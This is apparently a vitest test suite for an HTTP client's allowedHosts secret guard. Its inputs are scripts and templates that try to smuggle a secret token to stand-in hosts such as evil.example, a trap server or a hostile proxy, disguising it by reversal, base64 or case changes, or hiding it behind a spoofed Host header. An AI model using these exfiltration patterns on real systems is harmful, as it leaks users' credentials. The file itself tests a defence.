import { describe, expect, test } from "vitest";
import { httpServer } from "../../http/testing/loopback.ts";
import { consoleOf, runFiles, type Scripts } from "../testing/run-files.ts";
import { requestOf, resultOf, trap } from "../testing/secret-hosts.ts";

/** A collection whose secret may be sent to some hosts, and a request of it. */
function guarded(
	hosts: string,
	http: string,
	more = "",
	scripts: Scripts = {},
) {
	return {
		...requestOf(http, scripts),
		"opencollection.yml": `info:\n  name: Test\n${more}extensions:\n  curlew:\n    secrets:\n      token:\n        allowedHosts: [${hosts}]\n`,
	};
}

const SCRIPT_TOKEN = "s3cretTokenOfFourtySevenEleven";

describe("a secret with allowedHosts is found", () => {
	test.each([
		["in capitals", "token.toUpperCase()"],
		["in small letters", "token.toLowerCase()"],
		["backwards", '[...token].reverse().join("")'],
		["backwards, as base64", 'btoa([...token].reverse().join(""))'],
		[
			"with its case turned round",
			"token.replace(/[a-z]/gi, (l) => l === l.toUpperCase() ? l.toLowerCase() : l.toUpperCase())",
		],
	])("in a URL %s", async (_, making) => {
		const evil = await trap();
		const run = await runFiles(
			guarded("localhost:1", 'url: "{{evil}}/plain"', "", {
				"before-request": `const token = client.getSecretVar("token"); req.setUrl(client.getEnvVar("evil") + "/" + ${making});`,
			}),
			{ overrides: { token: SCRIPT_TOKEN, evil: evil.url } },
		);
		expect(JSON.stringify(resultOf(run))).toContain("SECRET_NOT_ALLOWED_HERE");
		expect(evil.connections()).toBe(0);
	});

	test("in the method", async () => {
		const evil = await trap();
		const run = await runFiles(
			guarded("localhost:1", 'url: "{{evil}}/"\nmethod: "{{token}}"'),
			{ overrides: { token: SCRIPT_TOKEN, evil: evil.url } },
		);
		expect(JSON.stringify(resultOf(run))).toContain("SECRET_NOT_ALLOWED_HERE");
		expect(evil.connections()).toBe(0);
	});

	test("in the name of a host, before it is looked up", async () => {
		const run = await runFiles(
			guarded("api.example.com", 'url: "http://{{token}}.evil.invalid/"'),
			{ overrides: { token: SCRIPT_TOKEN } },
		);
		expect(JSON.stringify(resultOf(run))).toContain("SECRET_NOT_ALLOWED_HERE");
	});

	test.each(["header", "sendRequest"])(
		"where a Host header (%s) leads it to somebody else",
		async (way) => {
			const server = await httpServer((_message, response) => response.end());
			const headers =
				way === "header"
					? '\nheaders:\n  - name: Host\n    value: evil.example\n  - name: X\n    value: "{{token}}"'
					: "";
			const run = await runFiles(
				guarded(
					"loopback",
					`url: "{{other}}/"${headers}`,
					"",
					way === "header"
						? {}
						: {
								"before-request": `try { await client.sendRequest({ url: client.getEnvVar("other"), headers: { host: "evil.example", x: client.getSecretVar("token") } }); } catch (error) { console.log(error.message); }`,
							},
				),
				{ overrides: { token: SCRIPT_TOKEN, other: server.url } },
			);
			const told = JSON.stringify([resultOf(run), consoleOf(run)]);
			expect(told).toContain(
				"to http://evil.example. It may be sent to loopback only",
			);
		},
	);
});

describe("a proxy that the collection chooses", () => {
	const proxy = (port: number) =>
		`config:\n  proxy:\n    inherit: false\n    config:\n      protocol: http\n      hostname: 127.0.0.1\n      port: ${port}\n`;

	test("does not see a secret that may not be sent to it", async () => {
		const evil = await trap();
		const run = await runFiles(
			guarded(
				"api.example.com",
				'url: "http://api.example.com/"\nheaders:\n  - name: X\n    value: "{{token}}"',
				proxy(evil.port),
			),
			{ overrides: { token: SCRIPT_TOKEN } },
		);
		expect(resultOf(run)?.failure).toMatchObject({
			code: "SECRET_NOT_ALLOWED_HERE",
			message: `The collection's proxy, in the header X, would send the secret \`token\` to http://127.0.0.1:${evil.port}. It may be sent to api.example.com only.`,
		});
		expect(evil.connections()).toBe(0);
	});

	test("may tunnel what is encrypted", async () => {
		const evil = await trap();
		const run = await runFiles(
			guarded(
				"api.example.com",
				'url: "https://api.example.com/"\nheaders:\n  - name: X\n    value: "{{token}}"',
				proxy(evil.port),
			),
			{ overrides: { token: SCRIPT_TOKEN } },
		);
		expect(resultOf(run)?.failure?.code).toBe("PROXY_FAILED");
		expect(evil.connections()).toBeGreaterThan(0);
	});

	test("is the user's own affair where the user has chosen it", async () => {
		const own = await trap();
		const run = await runFiles(
			guarded(
				"api.example.com",
				'url: "http://api.example.com/"\nheaders:\n  - name: X\n    value: "{{token}}"',
			),
			{
				overrides: { token: SCRIPT_TOKEN },
				http: {
					proxy: {
						kind: "on",
						protocol: "http",
						hostname: "127.0.0.1",
						port: own.port,
						username: undefined,
						password: undefined,
						bypass: "",
					},
				},
			},
		);
		expect(resultOf(run)?.failure?.code).not.toBe("SECRET_NOT_ALLOWED_HERE");
		expect(own.connections()).toBeGreaterThan(0);
	});
});
